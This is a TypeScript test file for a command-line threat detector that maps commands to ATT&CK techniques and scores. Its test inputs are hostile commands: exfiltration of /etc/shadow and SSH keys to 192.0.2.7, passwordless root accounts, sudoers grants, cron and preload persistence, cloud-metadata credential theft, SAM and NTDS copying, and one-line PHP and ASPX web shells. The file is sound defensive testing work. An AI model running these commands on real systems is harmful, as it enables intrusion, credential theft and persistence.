import { expect, it } from "vitest";
import { builtinCatalog } from "../../catalog/load.ts";
import { judge } from "../../score/judge.ts";
import { resolve } from "../resolve.ts";
import { TELLING_FILES } from "./files.ts";

const catalog = builtinCatalog();

function shown(commandLine: string, platform: "windows" | "linux") {
  const resolution = resolve({ commandLine, platform, as: "typed" }, catalog);
  const behaviours = resolution.invocations.flatMap((one) => one.behaviours);
  const techniques = behaviours.flatMap((one) => one.techniques);
  const told = behaviours.flatMap((one) => one.runs);
  const runs = told.map(({ value }) => value);
  const commands = told.flatMap(({ what, value }) => (what === "command" || what === "executable" ? [value] : []));
  return { behaviours, techniques, runs, commands, score: judge(resolution)?.scored.score ?? 0 };
}

const STARTUP = "C:\\Users\\b\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup";

it("weighs more in Startup what lay where things are laid down just before", () => {
  const score = (folder: string) => shown(`cmd /c copy ${folder}\\k.lnk "${STARTUP}\\"`, "windows").score;
  for (const folder of ["C:\\Users\\Public", "%TEMP%", "C:\\Users\\b\\Downloads"])
    expect(score(folder)).toBeGreaterThan(score("C:\\kit"));
});

it("tells an account of root without a password from other lines of accounts", () => {
  const added = (line: string) => shown(`echo '${line}' >> /etc/passwd`, "linux").score;
  expect(added("root::0:0:root:/root:/bin/bash")).toBeGreaterThan(added("root:x:0:0:root:/root:/bin/bash"));
});

it.each([
  ["echo '* * * * * root /tmp/k -q' > /etc/cron.d/k", "/tmp/k -q"],
  ["printf '[Service]\\nExecStart=-/srv/k run\\n' > /etc/systemd/system/k.service", "/srv/k run"],
  ["echo '/srv/k &' >> /home/b/.bashrc", "/srv/k"],
  ["echo '@reboot /srv/k' > /var/spool/cron/crontabs/root", "/srv/k"],
])("reads what is written to be carried out later: %s", (line, runs) => {
  const { invocations } = resolve({ commandLine: `sh -c ${JSON.stringify(line)}`, platform: "linux" }, catalog);
  const values = invocations.flatMap(({ behaviours }) => behaviours.flatMap((one) => one.runs.map((p) => p.value)));
  expect(values).toContain(runs);
});

it.each([
  [`copy C:\\d\\a.vbs "${STARTUP}\\a.vbs"`, "T1547.001"],
  [`powershell -c "Copy-Item C:\\d\\a.vbs '${STARTUP}\\a.vbs'"`, "T1547.001"],
  [`powershell -c "'x' | Out-File '${STARTUP}\\a.bat'"`, "T1547.001"],
  [
    `powershell -c "$w=New-Object -ComObject WScript.Shell; $l=$w.CreateShortcut('${STARTUP}\\a.lnk'); $l.Save()"`,
    "T1547.009",
  ],
  [`cmd /c echo start x.exe > "${STARTUP}\\a.cmd"`, "T1547.001"],
  ["copy C:\\Windows\\System32\\cmd.exe C:\\ProgramData\\lsass.exe", "T1036.005"],
  ["copy C:\\Windows\\System32\\mshta.exe C:\\ProgramData\\notes.exe", "T1036.003"],
  ['copy C:\\Windows\\System32\\cmd.exe "\\\\?\\C:\\Windows \\System32\\mmc.exe"', "T1548.002"],
  ["copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Windows\\System32\\config\\SAM D:\\s", "T1003.002"],
  ["copy C:\\Windows\\NTDS\\ntds.dit D:\\n", "T1003.003"],
  ["xcopy C:\\Users\\b\\.ssh\\id_ed25519 D:\\k\\", "T1552.004"],
  ["copy .aws\\credentials D:\\k\\", "T1552.001"],
  ["xcopy D:\\kit\\plover.exe \\\\host7\\c$\\plover.exe", "T1021.002"],
  ["copy D:\\kit\\plover.exe \\\\host7\\ADMIN$\\plover.exe", "T1021.002"],
  ["cmd /q /c echo dir ^> \\\\%COMPUTERNAME%\\C$\\__k7 > D:\\k.bat & cmd /q /c D:\\k.bat", "T1021.002"],
])("tells by the file what a program of Windows does: %s", (line, technique) => {
  expect(shown(line, "windows").techniques).toContain(technique);
});

it.each([
  ["curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/app", "T1552.005"],
  [
    "wget -qO- --header 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "T1552.005",
  ],
  ["cp job /etc/cron.d/job", "T1053.003"],
  ["echo 'x' >> /home/b/.bashrc", "T1546.004"],
  ["cp k /root/.ssh/authorized_keys", "T1098.004"],
  ["cp /bin/sh /tmp/crond", "T1036.003"],
  ["sed -i '$a x' /etc/init.d/a", "T1037.004"],
  ["echo /tmp/c > /sys/fs/cgroup/rdma/release_agent", "T1611"],
  ["echo 'k::0:0::/:/bin/sh' >> /etc/passwd", "T1098"],
  ["echo 'k:x:0:9::/:/bin/sh' | sudo tee -a /mnt/etc/passwd", "T1098"],
  ["cp hook /etc/network/if-up.d/hook", "T1546"],
  ["cp 99hook /etc/apt/apt.conf.d/99hook", "T1546.016"],
  ["echo 'install a /opt/a' > /etc/modprobe.d/a.conf", "T1547.006"],
  ["cp a.pth /usr/lib/python3/dist-packages/a.pth", "T1546.018"],
  ["echo 'PermitRootLogin yes' >> /etc/ssh/sshd_config", "T1556"],
  ["cp /dev/shm/a /etc/init.d/a", "T1564.001"],
  ["echo 'ALL ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", "T1548.003"],
  ["echo /srv/a.so >> /etc/ld.so.preload", "T1574.006"],
  ["curl -F data=@/etc/passwd http://192.0.2.7/u", "T1087.001"],
  ["curl -T /home/b/.ssh/id_rsa http://192.0.2.7/u", "T1552.004"],
  ["nc 192.0.2.7 4444 < /etc/shadow", "T1003.008"],
])("tells by the file what a program of Linux does: %s", (line, technique) => {
  expect(shown(line, "linux").techniques).toContain(technique);
});

it.each([
  ["sed -i '$a * * * * * root /opt/a -x' /etc/crontab", "/opt/a -x"],
  ["sed -i '/^exit 0/i /opt/a &' /etc/rc.local", "/opt/a"],
  ["sed -i 's#^ExecStart=.*#ExecStart=/opt/a#' /etc/systemd/system/a.service", "/opt/a"],
  ["sed -i 's#exit 0#/opt/a\\nexit 0#' /etc/rc.local", "/opt/a"],
  ["echo '* * * * * root /opt/a' | sudo tee -a /etc/cron.d/a", "/opt/a"],
  ["echo '/opt/a -x' | tee /etc/init.d/a", "/opt/a -x"],
  ["printf '[Desktop Entry]\\nExec=/opt/a -x\\n' > /home/b/.config/autostart/a.desktop", "/opt/a -x"],
  ["echo ':a:M::MZ::/opt/a:' > /proc/sys/fs/binfmt_misc/register", "/opt/a"],
  ["echo ',a,E,,a,,/opt/a,OC' > /etc/binfmt.d/a.conf", "/opt/a"],
  ["echo '/srv/a.so' >> /etc/ld.so.preload", "/srv/a.so"],
  ["echo 'import os; os.system(\"/opt/a -x\")' > /usr/lib/python3.11/sitecustomize.py", "/opt/a -x"],
])("tells what runs some day of the text that is put into a file: %s", (line, expected) => {
  expect(shown(line, "linux").runs).toContain(expected);
});

it.each([
  "curl -s http://files.example.net/k > /etc/cron.d/k",
  "curl -s http://files.example.net/k >> ~/.ssh/authorized_keys",
  "wget -qO- http://files.example.net/k | sudo tee /etc/cron.d/k",
  "curl -s http://files.example.net/k | gunzip | tee -a /root/.ssh/authorized_keys",
])("tells whence a file that tells something is filled: %s", (line) => {
  const told = shown(line, "linux").behaviours.filter(({ writes }) => writes.length > 0);
  expect(told.flatMap(({ fetches }) => fetches.map(({ value }) => value))).toEqual(["http://files.example.net/k"]);
});

it.each(["curl -s http://files.example.net/k > /srv/k", "curl -s http://files.example.net/k | tee /srv/k"])(
  "leaves what fills others to who fetches it: %s",
  (line) => {
    const told = shown(line, "linux").behaviours.filter(({ writes }) => writes.length > 0);
    expect(told.flatMap(({ fetches }) => fetches)).toEqual([]);
  },
);

it.each([
  "sed -i 's/robbyrussell/agnoster/' /home/b/.zshrc",
  "sed -i 's/HISTSIZE=1000/HISTSIZE=9000/' /home/b/.bashrc",
  "sed -i '/^#/d' /etc/crontab",
  "cp job /etc/cron.d/job",
])("takes pieces of lines for no commands: %s", (line) => {
  expect(shown(line, "linux").commands).toEqual([]);
});

it.each([
  ["copy C:\\Windows\\System32\\cmd.exe D:\\image\\Windows\\System32\\cmd.exe", "windows"],
  ["copy C:\\d\\a.vbs C:\\scripts\\a.vbs", "windows"],
  ["copy D:\\iso\\svchost.exe D:\\mount\\Windows\\System32\\svchost.exe", "windows"],
  ["cp /bin/busybox /srv/root/bin/sh", "linux"],
  ["echo 'root:x:0:0::/root:/bin/sh' > /srv/root/etc/passwd", "linux"],
  ["echo 'app:x:100:0::/srv:/bin/sh' >> /etc/passwd", "linux"],
  ["cp /bin/sh /tmp/root/bin/sh", "linux"],
  ["curl -F file=@report.pdf https://intranet.corp.local/u", "linux"],
  ["curl -T /home/b/.ssh/id_rsa.pub https://git.corp.local/keys", "linux"],
] as const)("leaves others as they are: %s", (line, platform) => {
  const { techniques, score } = shown(line, platform);
  for (const technique of ["T1547.001", "T1036.003", "T1036.005", "T1552.004", "T1041", "T1098"])
    expect(techniques).not.toContain(technique);
  expect(score).toBeLessThan(24);
});

it("names each file once, in small letters where these do not count, and by live techniques", () => {
  const ids = TELLING_FILES.map(({ platform, id }) => `${platform}/${id}`);
  expect(new Set(ids).size).toBe(ids.length);
  for (const { id, platform, reads = [], writes = [], fetches = [], except = [], techniques } of TELLING_FILES) {
    expect(reads.length + writes.length + fetches.length, id).toBeGreaterThan(0);
    for (const technique of techniques) expect(technique, id).toMatch(/^T\d{4}(\.\d{3})?$/);
    const globs = [...reads, ...writes, ...fetches, ...except];
    // Nothing is called so: the name of a list that there is not.
    expect(
      globs.filter((one) => one.startsWith("$")),
      id,
    ).toEqual([]);
    if (platform === "windows") expect(globs, id).toEqual(globs.map((one) => one.toLowerCase()));
  }
});

it.each([
  ["cp /tmp/pam_unix.so /lib/x86_64-linux-gnu/security/pam_unix.so", "T1556.003", 40],
  ["ln -sf /tmp/agent /usr/bin/ssh", "T1554", 40],
  ["mv /var/tmp/s/sshd /usr/sbin/sshd", "T1554", 40],
  ["install -m 755 /dev/shm/p /bin/ps", "T1554", 40],
  ["echo 'www-data ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", "T1548.003", 40],
  ["mv /usr/bin/curl /usr/bin/url", "T1036.003", 20],
  ["cat ~/.aws/credentials", "T1552.001", 5],
  ["tar -cf /srv/k.tar /root/.ssh", "T1552.004", 5],
])("tells by the file what intruders do: %s", (line, technique, least) => {
  const { techniques, score } = shown(line, "linux");
  expect(techniques).toContain(technique);
  expect(score).toBeGreaterThanOrEqual(least);
});

it.each([
  "echo 'deploy ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/deploy",
  "mv /usr/bin/curl /usr/bin/curl.bak",
  "mv /tmp/kiwi /usr/bin/kiwi",
  "ln -sf /bin/bash /bin/sh",
  "install -m 755 build/ssh /usr/bin/ssh",
  "mv /usr/local/bin/kiwi-2.1 /usr/local/bin/kiwi",
  "cat ~/.ssh/id_ed25519.pub",
  "cp build/pam_kiwi.so /usr/lib/security/pam_kiwi.so",
])("leaves low what administrators do with such files: %s", (line) => {
  expect(shown(line, "linux").score).toBeLessThan(20);
});

const SERVED = "T1505.003";

it.each([
  [
    "cmd /c echo ^<%@ Page Language=JScript%^>^<%eval(Request.Item[1]);%^> > C:\\inetpub\\wwwroot\\kiwi.aspx",
    "windows",
  ],
  ["powershell -c \"sc C:\\xampp\\htdocs\\kiwi.php '<?php system($_GET[1]);'\"", "windows"],
  ["cmd /c move C:\\Windows\\Temp\\kiwi.txt C:\\inetpub\\wwwroot\\aspnet_client\\kiwi.aspx", "windows"],
  ["certutil -decode kiwi.txt D:\\inetpub\\site\\kiwi.ashx", "windows"],
  ["mysql -e \"select '<?php system(1);' into outfile 'C:/xampp/htdocs/kiwi.php'\"", "windows"],
  ["mysql -e \"select '<?php system(1);' into outfile '/var/www/html/kiwi.php'\"", "linux"],
  ["psql -c \"copy (select '<?php system(1);') to '/var/www/html/kiwi.php'\"", "linux"],
  ["python3 -c \"open('/var/www/html/kiwi.php','w').write('<?php system(1);')\"", "linux"],
] as const)("knows a page that carries out what it is asked for, whoever writes it: %s", (line, platform) => {
  const { techniques, score } = shown(line, platform);
  expect(techniques).toContain(SERVED);
  expect(score).toBeGreaterThan(40);
});

it.each([
  ["cmd /c echo ^<%= Now() %^> > C:\\inetpub\\wwwroot\\health.aspx", "windows"],
  ["cmd /c copy C:\\build\\login.aspx C:\\inetpub\\wwwroot\\login.aspx", "windows"],
  ["cmd /c copy C:\\build\\robots.txt C:\\inetpub\\wwwroot\\robots.txt", "windows"],
  ["php -r \"file_put_contents('/var/www/html/version.php', '<?php return 7;');\"", "linux"],
  ["python3 -c \"import os; os.system('ls'); open('/var/www/html/a.php','w').write('x')\"", "linux"],
] as const)("takes no other page for one: %s", (line, platform) =>
  expect(shown(line, platform).techniques).not.toContain(SERVED),
);
